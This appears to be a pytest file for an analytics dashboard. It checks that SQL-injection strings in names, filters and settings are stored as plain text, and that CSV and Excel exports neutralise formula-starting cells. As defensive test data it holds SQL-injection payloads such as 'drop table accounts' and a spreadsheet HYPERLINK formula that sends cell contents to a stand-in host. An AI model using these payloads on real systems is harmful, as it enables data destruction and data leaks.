"""Injection: text from users and files never runs as SQL or as a spreadsheet formula.

Account names, filter values, a mapping's column names, plan text, decision reasons and
setting names carry SQL; every one is stored or matched as text, and every table stays as it
was. Downloads (the pages' CSV and Excel buttons, ``kap export``) write text that starts with
= + - @ behind an apostrophe. The upload limit the Data page states is the server's.
"""

from __future__ import annotations

import ast
import io
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from kapanalytics import facts, plans
from kapanalytics.export import export_canonical_table, frame_to_csv_bytes, frame_to_xlsx_bytes
from kapanalytics.filters import Filters, Period, count_accounts
from kapanalytics.ingest import Mapping, import_file
from kapanalytics.keyaccounts import decision_history, record_decision
from kapanalytics.saved_settings import load_setting, save_setting
from kapanalytics.store import PROJECT_ROOT, connect
from tests.reliability_support import all_checksums, stock

INJECTIONS = [
    'x"; drop table accounts; --',
    "'; delete from transactions; --",
    "A1' or '1'='1",
    "1; update settings set value_json = '{}'",
    "') union select * from key_account_decisions --",
    "$1",
    "?",
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
]
FORMULA_STARTS = ("=", "+", "-", "@")
PERIOD = Period(pd.Timestamp("2024-01-01").date(), pd.Timestamp("2024-12-31").date())


@pytest.fixture
def stocked(tmp_path):
    con = stock(connect(":memory:"), tmp_path)
    yield con
    con.close()


@pytest.mark.parametrize("text", INJECTIONS)
def test_filter_values_are_matched_as_text(stocked, text):
    before = all_checksums(stocked)
    chosen = Filters(period=PERIOD, region=(text,), owner=(text, "Anna"), account_ids=(text,))
    assert count_accounts(stocked, chosen) == 0
    assert facts.account_period_facts(stocked, chosen).empty
    assert facts.top_accounts(stocked, chosen).empty
    revenue = facts.overview_kpis(stocked, chosen).set_index("kpi").loc["revenue", "current"]
    assert revenue == 0 or pd.isna(revenue)
    assert all_checksums(stocked) == before


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_account_named_like_sql_is_stored_and_found_as_written(stocked, tmp_path, text):
    path = tmp_path / "accounts.csv"
    pd.DataFrame({"Customer ID": ["A9"], "Customer Name": [text], "Region": [text]}).to_csv(
        path, index=False
    )
    import_file(stocked, path, preset="generic_en", table="accounts")
    assert stocked.execute("select name from accounts where account_id = 'A9'").fetchone() == (
        text,
    )
    assert count_accounts(stocked, Filters(period=PERIOD, region=(text,))) == 1
    assert stocked.execute("select count(*) from transactions").fetchone()[0] == 2


@pytest.mark.parametrize("column", INJECTIONS)
def test_a_mapping_column_named_like_sql_reads_that_column(stocked, tmp_path, column):
    path = tmp_path / "accounts.csv"
    pd.DataFrame({column: ["A8"], "Name": ["Eighth"]}).to_csv(path, index=False)
    before = all_checksums(stocked)
    mapping = Mapping.from_dict("accounts", {"account_id": column, "name": "Name"})
    result = import_file(stocked, path, mapping=mapping)
    assert result.rows_loaded == 1
    assert stocked.execute("select name from accounts where account_id = 'A8'").fetchone() == (
        "Eighth",
    )
    after = all_checksums(stocked)
    assert {name for name in after if after[name] != before[name]} == {"accounts", "import_log"}


def test_a_mapping_file_with_sql_in_its_column_names_reads_those_columns(stocked, tmp_path):
    column = INJECTIONS[0]
    mapping = tmp_path / "mapping.toml"
    mapping.write_text(
        "[tables.accounts.fields]\n"
        f"account_id = {tomllib_quote(column)}\n"
        f'name = {{ column = {tomllib_quote(column + " name")}, default = "x" }}\n'
    )
    path = tmp_path / "accounts.csv"
    pd.DataFrame({column: ["A7"], column + " name": ["Seventh"]}).to_csv(path, index=False)
    import_file(stocked, path, mapping_path=mapping)
    assert stocked.execute("select name from accounts where account_id = 'A7'").fetchone() == (
        "Seventh",
    )


def tomllib_quote(text: str) -> str:
    """``text`` as a TOML basic string, read back the same."""
    quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
    assert tomllib.loads(f"v = {quoted}")["v"] == text
    return quoted


@pytest.mark.parametrize("text", INJECTIONS)
def test_plan_text_decisions_and_settings_are_stored_as_written(stocked, text):
    before = {
        name: value
        for name, value in all_checksums(stocked).items()
        if name not in ("account_plans", "key_account_decisions", "settings", "app_events")
    }
    opened = plans.latest_version(stocked, "A1")
    plan = plans.Plan().with_sections({"mission": text, "customer_goals": text})
    plans.save_plan(stocked, "A1", plan, text, opened)
    record_decision(stocked, "A2", True, text, text)
    save_setting(stocked, text, {"value": text}, text, 0)

    stored = plans.load_plan(stocked, "A1")
    assert (stored.plan.section("mission"), stored.saved_by) == (text, text)
    assert decision_history(stocked, "A2").iloc[0][["reason", "decided_by"]].tolist() == [
        text,
        text,
    ]
    assert load_setting(stocked, text).value == {"value": text}
    after = all_checksums(stocked)
    assert {name: after[name] for name in before} == before


# ---- exports --------------------------------------------------------------------------------

FORMULAS = pd.DataFrame(
    {
        "name": ["=1+1", "+49 30 1234", "-2+3", "@SUM(A1)", "\t=cmd", "plain", None],
        "revenue": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
    }
)


def _cells_from_csv(data: bytes) -> list[str]:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)["name"].tolist()


def _cells_from_xlsx(data: bytes) -> list[str]:
    return pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="calamine")[
        "name"
    ].tolist()


def _assert_neutralised(cells: list[object]) -> None:
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), cell


def test_csv_and_excel_downloads_neutralise_formulas_and_keep_numbers():
    csv_cells = _cells_from_csv(frame_to_csv_bytes(FORMULAS))
    assert csv_cells[:5] == ["'=1+1", "'+49 30 1234", "'-2+3", "'@SUM(A1)", "'\t=cmd"]
    xlsx_cells = _cells_from_xlsx(frame_to_xlsx_bytes(FORMULAS))
    assert xlsx_cells[:5] == csv_cells[:5]
    workbook = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(FORMULAS)))
    assert workbook.active["B2"].value == -5  # numbers stay numbers, minus and all


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_kap_export_neutralises_formulas_in_names(stocked, tmp_path, fmt):
    stocked.execute("insert into accounts (account_id, name) values ('F1', '=1+1'), ('F2', '@x')")
    path = export_canonical_table(stocked, "accounts", tmp_path / f"accounts.{fmt}", fmt)
    data = path.read_bytes()
    cells = _cells_from_csv(data) if fmt == "csv" else _cells_from_xlsx(data)
    assert "'=1+1" in cells
    _assert_neutralised(cells)


@pytest.fixture
def downloads(monkeypatch) -> dict[str, object]:
    """What each download button of a page run would send: file name -> data (or callable)."""
    captured: dict[str, object] = {}
    original = DeltaGenerator.download_button

    def recording(self, label, data, file_name=None, *args, **kwargs):
        captured[file_name] = data
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    return captured


def _page_on(db: Path, page: str, monkeypatch) -> AppTest:
    """The dashboard on database ``db``, showing ``page`` after its first run."""
    monkeypatch.setenv("KAP_DB", str(db))
    app = AppTest.from_file(str(PROJECT_ROOT / "dashboard.py"), default_timeout=120)
    app.run()
    app.switch_page(page)
    app.run()
    assert not app.exception, app.exception
    return app


def test_the_pages_downloads_neutralise_formulas(tmp_path, monkeypatch, downloads):
    db = tmp_path / "kap.duckdb"
    con = stock(connect(db), tmp_path)
    corpus = PROJECT_ROOT / "tests" / "data" / "bad" / "formula_strings.csv"
    import_file(con, corpus, preset="generic_en", table="accounts")
    con.close()
    _page_on(db, "pages/data_tables.py", monkeypatch)

    csv_data, xlsx_data = downloads["accounts.csv"], downloads["accounts.xlsx"]
    csv_bytes = csv_data() if callable(csv_data) else csv_data
    xlsx_bytes = xlsx_data() if callable(xlsx_data) else xlsx_data
    table = pd.read_csv(io.BytesIO(csv_bytes), dtype=str, keep_default_na=False)
    sheet = pd.read_excel(
        io.BytesIO(xlsx_bytes), dtype=str, keep_default_na=False, engine="calamine"
    )
    for frame in (table, sheet):
        names = frame.iloc[:, 1].tolist()  # the name column, under its label
        assert "'+49 30 1234" in names
        assert '\'=HYPERLINK("http://example.invalid/?leak="&A1,"Click")' in names
        for column in frame.columns:
            _assert_neutralised(frame[column].tolist())


# ---- upload size ----------------------------------------------------------------------------


def _page_constant(name: str) -> object:
    tree = ast.parse((PROJECT_ROOT / "pages" / "data_import.py").read_text(encoding="utf-8"))
    for node in tree.body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", None) == name:
            return ast.literal_eval(node.value)
    raise AssertionError(f"pages/data_import.py defines no {name}")


def test_the_upload_limit_stated_is_the_servers(tmp_path, monkeypatch):
    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text())
    limit = _page_constant("MAX_UPLOAD_MB")
    assert limit == config["server"]["maxUploadSize"] == 200

    db = tmp_path / "kap.duckdb"
    stock(connect(db), tmp_path).close()
    app = _page_on(db, "pages/data_import.py", monkeypatch)
    assert any(f"Upload limit: {limit} MB" in caption.value for caption in app.caption)
